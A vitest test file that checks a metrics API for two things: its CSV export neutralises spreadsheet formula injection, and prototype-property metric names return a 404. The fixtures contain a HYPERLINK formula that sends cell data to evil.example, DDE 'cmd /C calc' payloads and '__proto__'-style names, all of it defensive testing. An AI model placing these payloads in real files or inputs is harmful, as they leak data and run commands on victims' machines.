// The metrics API with hostile input (issue 13): text from the data that a spreadsheet would run
// as a formula comes out of format=csv neutralised (the same writer as the page downloads), and
// names that are properties of every JavaScript object are unknown figures (404 listing the
// names), never a 200 with the database's path nor a 500. The server answers normally after.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Database } from '../../src/lib/server/db/database';
import { ingestFiles } from '../../src/lib/server/ingest/ingest';
import { METRIC_NAMES } from '../../src/lib/server/metrics/index';
import { startServer, type RunningServer } from '../helpers/server';
import { tempFolder } from '../helpers/temp-db';

const folder = tempFolder();
const dbPath = folder.path('metrics-safety.duckdb');
let server: RunningServer;

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")';
const REGION = '=1+1';
const CLIENT_TYPE = '@SUM(1+9)*cmd|\' /C calc\'!A0';
const SECTOR = '-2+3+cmd|\' /C calc\'!A0';
const SIZE = '+1-1';

/** A `;` CSV cell, quoted the RFC 4180 way. */
const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;

beforeAll(async () => {
	const db = await Database.open(dbPath);
	const clients = folder.write(
		'c.csv',
		'Código cliente;Razón social;Región;Tipo de cliente;Sector;Tamaño\n' +
			[['A', HYPERLINK, REGION, CLIENT_TYPE, SECTOR, SIZE].map(quoted).join(';'), 'B;Beta;Oruro;Mayorista;Comercio;Grande'].join('\n') +
			'\n'
	);
	const invoices = folder.write('f.csv', 'Nº factura;Fecha;Código cliente;Importe\nF1;10/01/2025;A;100,00\nF2;10/02/2025;B;150,00\nF3;10/03/2025;A;50,00\n');
	const report = await ingestFiles(db, [{ path: clients }, { path: invoices }]);
	expect(report.files.map((f) => f.rejected)).toEqual([0, 0]);
	// The hostile text is stored as written: the neutralising is the CSV writer's job.
	expect(await db.all('SELECT name, region, client_type, sector, size FROM clients WHERE client_id = $1', ['A'])).toEqual([
		{ name: HYPERLINK, region: REGION, client_type: CLIENT_TYPE, sector: SECTOR, size: SIZE }
	]);
	db.close();
	server = await startServer(dbPath);
});
afterAll(async () => {
	await server?.stop();
	folder.remove();
});

describe('format=csv neutralises formulas', () => {
	it.each([
		['region', REGION],
		['client_type', CLIENT_TYPE],
		['sector', SECTOR],
		['size', SIZE]
	])('segmentation by %s: %j comes out as text', async (dim, value) => {
		const response = await server.fetch(`${server.url}/api/metrics/segmentation?from=2025-01&to=2025-03&dim=${dim}&format=csv`);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
		const lines = (await response.text()).split('\r\n');
		expect(lines[0]).toMatch(/^value,/);
		const row = lines.find((line) => line.includes(value.slice(1, 4)));
		expect(row).toBeDefined();
		// The value cell starts with an apostrophe (quoted when it holds a comma or a quote).
		expect(row).toMatch(new RegExp(`^"?'${value.slice(0, 4).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
		// No line of the file starts a formula: only the neutralised value is there.
		expect(lines.filter((line) => /^"?[=+@-]/.test(line))).toEqual([]);
	});

	it('keeps numbers, negative ones too, as numbers (only text is neutralised)', async () => {
		const csv = await (await server.fetch(`${server.url}/api/metrics/growth?from=2025-01&to=2025-03&format=csv`)).text();
		expect(csv.split('\r\n')[0]).toBe('month,revenue,mom,yoy,revenue_year_before,status,partial,provisional,projected_revenue,projected_mom');
		expect(csv.split('\r\n')[3]).toMatch(/^2025-03,50,-0\.6666/); // (50 − 150) / 150
	});
});

describe('metric names are looked up in a Map', () => {
	it.each(['constructor', '__proto__', 'hasOwnProperty', 'valueOf', 'toString', 'isPrototypeOf', 'prototype', 'sales', 'kpis.json', '%5F%5Fproto%5F%5F'])(
		'/api/metrics/%s is a 404 listing the names, revealing nothing',
		async (name) => {
			for (const query of ['', '?format=csv']) {
				const response = await server.fetch(`${server.url}/api/metrics/${name}${query}`);
				expect(response.status).toBe(404);
				const text = await response.text();
				const body = JSON.parse(text) as { error: string; param: string; names: string[] };
				expect(body.error).toMatch(/^unknown metric ".*"; expected one of segmentation, concentration/);
				expect(body.param).toBe('name');
				expect(body.names).toEqual([...METRIC_NAMES]);
				expect(text).not.toContain(folder.dir);
				expect(text).not.toMatch(/duckdb|cache/i);
			}
		}
	);

	it('still answers every real figure after them', async () => {
		for (const name of METRIC_NAMES) expect((await server.fetch(`${server.url}/api/metrics/${name}?from=2025-01&to=2025-03`)).status).toBe(200);
	});
});
